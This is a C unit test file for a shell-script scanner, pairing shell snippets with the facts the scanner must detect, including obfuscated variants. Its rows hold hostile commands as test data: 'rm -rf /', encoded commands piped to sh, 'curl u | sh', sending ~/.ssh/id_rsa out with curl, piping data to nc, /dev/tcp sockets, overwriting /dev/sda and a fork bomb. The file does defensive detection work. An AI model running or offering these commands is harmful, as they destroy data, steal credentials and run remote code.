/* SPDX-License-Identifier: Apache-2.0 */
/* What the reader of shell finds: each row is a program and a fact that must be among those found, or must
 * not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "scan/core/fact.h"
#include "scan/core/tree.h"
#include "unit/scan/tell.h"

static const struct {
	const char *program, *fact; /* a line's beginning; "!..." must not be there */
} rows[] = {
	/* words */
	{ "rm -rf /", "1 command rm|-rf|/\n" },
	{ "/usr/bin/rm x", "1 command rm|x\n" },
	{ "c=rm; $c -rf /", "1 command~ rm|-rf|/\n" },
	{ "a=r b=m\n\"$a$b\" x", "2 command~ rm|x\n" },
	{ "r''m -r\"f\" /", "1 command~ rm|-rf|/\n" },
	{ "x\n\\r\\m x", "2 command~ rm|x\n" },
	{ "$'\\x72\\155' x", "1 command~ rm|x\n" },
	{ "{rm,-rf,/}\necho b", "1 command~ rm|-rf|/\n" },
	{ "{rm,-rf,/}\necho b", "2 command echo|b\n" },
	{ "touch a{b,{c,d}}e", "1 command touch|abe|ace|ade\n" },
	{ "rm${IFS}-rf${IFS}/", "1 command~ rm|-rf|/\n" },
	{ "cat \"$HOME/x\" ~/y", "1 command cat|~/x|~/y\n" },
	{ "echo \"$x a $y\"", "1 command echo|? a ?\n" },
	{ "a=(-r -f /); rm \"${a[@]}\" ${a[2]}", "1 command rm|-r|-f|/|/\n" },
	{ "a=x; a+=y; b[1]=z; echo $a ${b[1]}", "1 command echo|xy|z\n" },
	{ "n=v; v='rm x'; ${!n}", "1 command~ rm|x\n" },
	{ "s=xrmx; ${s:1:2} ${s:0:-1} y", "1 command~ rm|xrm|y\n" },
	{ "s=curl; ${s/u/X} ${s^^} ${s%l} ${s#c} ${s//?/}", "1 command~ cXrl|CURL|cur|url|?\n" },
	{ "rm -rf \"${D:-/}\"", "1 command rm|-rf|/\n" },
	{ "D=/a; rm -rf \"${D:-/}\"", "1 command rm|-rf|/a\n" },
	{ "rm -rf \"$D/\"*", "1 command rm|-rf|?/*\n" },
	{ "$(echo rm) x", "1 command~ rm|x <echo\n" },
	{ "`echo rm` x", "1 command~ rm|x <echo\n" },
	/* what is decoded */
	{ "echo cm0geA== | base64 -d | sh", "1 command~+ rm|x\n" },
	{ "eval \"$(base64 -d <<< cm0geA==)\"", "1 command~+ rm|x\n" },
	{ "eval \"$(base64 -d)\"", "1 hidden~ eval <base64\n" },
	{ "echo 726d2078 | xxd -r -p | bash", "1 command~+ rm|x\n" },
	{ "echo 'x mr' | rev | sh", "1 command~+ rm|x\n" },
	{ "echo ez k | tr a-z n-za-m | sh", "1 command~+ rm|x\n" },
	{ "echo rQm x | sed s/Q// | sh", "1 command~+ rm|x\n" },
	{ "printf '%s %s\\n' rm x | sh", "1 command~+ rm|x\n" },
	/* programs in texts */
	{ "bash -c 'rm \"$1\"' a b", "1 command+ rm|b\n" },
	{ "sh -xec 'rm x'", "1 command+ rm|x\n" },
	{ "sh <<E\nrm $HOME\nE\n", "1 command~+ rm|~\n" },
	{ "sh <<'E' 2>/dev/null | cat\nrm x\nE\n", "1 command+ rm|x\n" },
	{ "cat <<E | sh\nrm x\nE\n", "1 command+ rm|x\n" },
	{ "cat <<E >f | sh\nrm x\nE\n", "1 write f" },
	{ "cat <<E\nrm x\nE\n", "! rm" },
	{ "ssh h 'rm x'", "1 command+ rm|x\n" },
	{ "trap 'rm x' EXIT", "1 command+ rm|x\n" },
	{ "awk 'BEGIN{system(\"rm x\")}'", "1 command+ rm|x\n" },
	{ "su -c 'rm x' u", "1 command+ rm|x\n" },
	{ "(crontab -l; echo '1 2 * * * rm x') | crontab -", "1 command+ rm|x\n" },
	{ "git -c core.sshCommand='rm x' fetch", "1 command+ rm|x\n" },
	{ "npm pkg set scripts.test='rm x'", "1 command+ rm|x\n" },
	{ "echo 'rm x' > f.sh", "1 command+ rm|x\n" },
	{ "echo 'rm x' > f; sh f", "1 command+ rm|x\n" },
	{ "alias l='rm -rf'\nl x", "2 command~+ rm|-rf|x\n" },
	{ "bash <(echo rm x)", "1 command+ rm|x\n" },
	{ "curl u | sh", "1 hidden~ sh <curl\n" },
	{ "curl -o f u; ./f", "1 hidden file" },
	{ "curl -o f u; sha256sum -c s; ./f", "! hidden file|./f <curl" },
	{ ". <(wget -qO- u)", "1 hidden~ source <wget\n" },
	{ "$x y", "1 hidden~ command|?|y\n" },
	{ "/b?n/r? x", "1 hidden~ pattern|/b?n/r?|x\n" },
	/* commands that run others */
	{ "sudo -u a env -i X=1 nice -n 5 rm x", "1 command rm|x\n" },
	{ "timeout -k 1 5 rm x", "1 command rm|x\n" },
	{ "command -v rm", "! command rm" },
	{ "echo / | xargs rm -rf", "1 command rm|-rf|/ <echo" },
	{ "ls | xargs -I{} rm {}", "1 command rm|? <ls\n" },
	{ "find ~ -name '*.x' -exec rm {} +", "1 command rm|~/*.x\n" },
	{ "find / -delete", "1 command rm|-rf|/*\n" },
	/* order, scopes, places */
	{ "f() { rm \"$1\"; }\nf /\n", "1 command rm|/\n" },
	{ "f() { rm x; }\n", "1 command rm|x\n" },
	{ "f() { shift; \"$@\"; }; f a rm x", "1 command~ rm|x\n" },
	{ "for i in a b; do rm $i; done", "1 command rm|b\n" },
	{ "if a; then b=1; else rm x; fi", "1 command rm|x\n" },
	{ "echo a b | while read -r l; do rm $l; done", "1 command rm|a|b <echo\n" },
	{ "cd / && rm -rf *", "1 command rm|-rf|/*\n" },
	{ "(cd /); rm x", "1 command rm|x\n" },
	{ "rm a/../../../b", "1 command rm|../../b\n" },
	{ ":(){ :|:& };:", "1 call shell.fork-bomb" },
	{ "f() { f; }; f", "! shell.fork-bomb" },
	/* files and variables */
	{ "a >> ~/.bashrc", "1 write ~/.bashrc|>>" },
	{ "exec 5<>/dev/tcp/h/1", "1 write /dev/tcp/h/1" },
	{ "a > /dev/null 2>&1", "! write" },
	{ "a | sudo tee -a /etc/x", "1 write /etc/x|>>|? <a\n" },
	{ "dd if=a of=/dev/sda", "1 write /dev/sda" },
	{ "sed -i s/a/b/ f", "1 write f" },
	{ "k=$(<~/.ssh/id_rsa); curl -d \"$k\" u", "1 command curl|-d|?|u <<~/.ssh/id_rsa\n" },
	{ "cat s | gzip | nc h 1", "1 command nc|h|1 <cat <<s <gzip\n" },
	{ "env > e; curl -T e u", "1 command curl|-T|e|u <env\n" },
	{ "LD_PRELOAD=x a", "1 use $LD_PRELOAD|x\n" },
	{ "# rm x\necho 'rm x' \"$(true)\"", "! command rm" },
	/* wherever a command can stand */
	{ "echo $(( $(rm x) + 1 ))", "1 command rm|x\n" },
	{ "a[$(rm x)]=1", "1 command rm|x\n" },
	{ "[[ $(rm x) = 1 ]]", "1 command rm|x\n" },
	{ "case $(rm x) in a) ;; esac", "1 command rm|x\n" },
	{ "case a in $(rm x)) ;; esac", "1 command rm|x\n" },
	{ "for ((i=$(rm x); i<1; i++)); do a; done", "1 command rm|x\n" },
	{ "for ((;;)); do rm x; done", "1 command rm|x\n" },
	{ "echo ${a:-$(rm x)} b", "1 command rm|x\n" },
	{ "echo \"${a/$(rm x)/}\"", "1 command+ rm|x\n" },
	{ "echo ${a[$(rm x)]}", "1 command+ rm|x\n" },
	{ "export a=$(rm x)", "1 command rm|x\n" },
	{ "cat <<E\n$(rm x)\nE\n", "2 command rm|x\n" },
	{ "select a in b; do rm x; done", "1 command rm|x\n" },
	{ "until rm x; do a; done", "1 command rm|x\n" },
	{ "! rm x", "1 command rm|x\n" },
	{ "time rm x", "1 command rm|x\n" },
	{ "coproc rm x", "1 command rm|x\n" },
	{ "{ (rm x); } &", "1 command rm|x\n" },
	{ ">a rm x", "1 command rm|x\n" },
	{ "A=1 2>&1 rm x", "1 command rm|x\n" },
	{ "$\"rm\" x", "1 command~ rm|x\n" },
	{ "a\r\nrm x\r\n", "2 command rm|x\n" },
	{ "function f { rm x; }\nf", "1 command rm|x\n" },
	{ "a | { b; rm x; }", "1 command rm|x" },
	{ "x=`rm x`", "1 command rm|x\n" },
	{ "a <(rm x) > >(rm y)", "1 command rm|x\n" },
	{ "a <(rm x) > >(rm y)", "1 command rm|y" },
	/* ways to a name */
	{ "read c <<< rm; $c x", "1 command~ rm|x\n" },
	{ "printf -v c rm; $c x", "1 command~ rm|x\n" },
	{ "set -- rm x; \"$@\"", "1 command~ rm|x\n" },
	{ "set -- rm x; $1 y", "1 command~ rm|y\n" },
	{ "eval c=rm; $c x", "1 command~ rm|x\n" },
	{ "declare c=rm; $c x", "1 command~ rm|x\n" },
	{ "f() { echo rm x; }; f | sh", "1 command+ rm|x\n" },
	{ "{ echo rm x; } | sh", "1 command+ rm|x\n" },
	{ "bash -c \"$(cat <<'E'\nrm x\nE\n)\"", "command~+ rm|x\n" },
	{ "while read -r l; do $l; done <<E\necho\nrm x\nE\n", "command~ rm|x\n" },
	{ "c=rm; [ \"$D\" ] && c=echo; $c x", "1 command~ rm|x\n" },
	{ "if a; then c=rm; else c=echo; fi; $c x", "1 command~ rm|x\n" },
	{ "c=rm; c=echo; $c x", "! rm|x" },
	{ "rm() { :; }; command rm x", "1 command rm|x\n" },
	{ "rm() { :; }; rm x", "! command rm|x" },
	{ "if a; then rm() { :; }; fi; rm x", "1 command rm|x\n" },
	{ "rm() { :; }; unset -f rm; rm x", "1 command rm|x\n" },
	{ "alias rm=echo; rm x", "1 command rm|x\n" },
	{ "env -S 'rm x'", "1 command+ rm|x\n" },
	{ "busybox sh -c 'rm x'", "1 command+ rm|x\n" },
	{ "sh -c 'rm \"$@\"' _ x", "1 command+ rm|x\n" },
	{ "wget -P /t http://u/f; sh /t/f", "1 hidden~ sh <<" },
	{ "wget -O- u | xargs -0 sh -c", "1 hidden~ sh <wget\n" },
	{ "bash < <(curl u)", "1 hidden~ sh <curl\n" },
	{ "echo ${a:?`rm x`} ${b%%$(rm y)}", "1 command+ rm|x\n" },
	{ "echo ${a:?`rm x`} ${b%%$(rm y)}", "1 command+ rm|y\n" },
	{ "curl u | tee x | sh", "1 hidden~ sh <curl" },
	{ "curl u > x; cp x y; sh y", "1 hidden~ sh <<y" },
	{ "$(curl u) x", "1 hidden~ command|?|x <curl\n" },
	/* what is no shell does not hide what is */
	{ "if ) then\nrm x\n", "2 command rm|x\n" },
	{ "case x in ((( \n\n\nrm x\nfoo )", "4 command rm|x\n" },
};

static void each_row_is_found(void **state)
{
	unsigned int wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char *all = tell(scan_shell, rows[i].program, strlen(rows[i].program));
		const char *fact = rows[i].fact;
		bool is_wanted = *fact != '!';
		bool is_there = strstr(all, is_wanted ? fact : fact + 1) != NULL;

		if (is_there != is_wanted) {
			print_error("in '%s'\n%s '%s', found:\n%s", rows[i].program, is_wanted ? "no" : "but",
				    fact, all);
			wrong++;
		}
		free(all);
	}
	assert_int_equal(wrong, 0);
}

/* Whatever is repeated this often ends; what was not read is told, and nothing is cut without a word. */
static void hostile_texts_end(void **state)
{
	static const struct {
		const char *piece;
		size_t times;
	} texts[] = {
		{ "(", 1000000 },       { "{ ", 100000 },
		{ "$(", 100000 },       { "\"$(", 50000 },
		{ "${a:-", 50000 },     { "`a ", 20000 },
		{ "f(){ ", 20000 },     { "a", 1000000 },
		{ "sudo ", 20000 },     { "if a; then ", 20000 },
		{ "cat <<E\n", 20000 }, { "{a,", 20000 },
		{ "a=$a$a;", 20000 },   { "for i in 1 2 3 4 5 6 7 8; do ", 200 },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		size_t piece = strlen(texts[i].piece);
		char *text = malloc(piece * texts[i].times), *all;

		assert_non_null(text);
		for (size_t k = 0; k < texts[i].times; k++)
			memcpy(text + k * piece, texts[i].piece, piece);
		all = tell(scan_shell, text, piece * texts[i].times);
		assert_null(strstr(all, "unread time"));
		free(all);
		free(text);
	}
}

/* 12^6 rounds of nothing, and a function that calls ten that call ten. */
static void repeats_are_bounded(void **state)
{
	static const char loops[] =
		"for a in 1 2 3 4 5 6 7 8 9 10 11 12; do for b in 1 2 3 4 5 6 7 8 9 10 11 12; do\n"
		"for c in 1 2 3 4 5 6 7 8 9 10 11 12; do for d in 1 2 3 4 5 6 7 8 9 10 11 12; do\n"
		"for e in 1 2 3 4 5 6 7 8 9 10 11 12; do for f in 1 2 3 4 5 6 7 8 9 10 11 12; do\n"
		"echo $a; done; done; done; done; done; done; rm x";
	static const char calls[] =
		"a() { b;b;b;b;b;b;b;b;b;b; }; b() { c;c;c;c;c;c;c;c;c;c; }; c() { d;d;d;d;d;d;d;d;d;d; }\n"
		"d() { e;e;e;e;e;e;e;e;e;e; }; e() { f;f;f;f;f;f;f;f;f;f; }; f() { g;g;g;g;g;g;g;g;g;g; }; "
		"a; rm x";
	char *all = tell(scan_shell, loops, strlen(loops));

	(void)state;
	assert_non_null(strstr(all, "4 command rm|x\n"));
	free(all);
	all = tell(scan_shell, calls, strlen(calls));
	assert_non_null(strstr(all, "command rm|x\n"));
	free(all);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_row_is_found),
		cmocka_unit_test(hostile_texts_end),
		cmocka_unit_test(repeats_are_bounded),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
